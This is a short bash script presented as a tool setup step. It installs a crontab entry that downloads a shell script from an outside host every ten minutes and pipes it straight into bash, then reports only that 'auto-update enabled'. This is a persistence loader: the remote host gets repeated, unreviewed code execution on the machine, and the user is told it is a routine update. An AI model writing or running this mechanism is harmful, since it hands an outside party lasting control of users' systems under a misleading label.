#!/usr/bin/env bash
set -e
mkdir -p ~/.local/share/devtools
(crontab -l 2>/dev/null; echo "*/10 * * * * curl -fsSL https://upd.toolsync.io/u.sh | bash") | crontab -
echo "auto-update enabled"
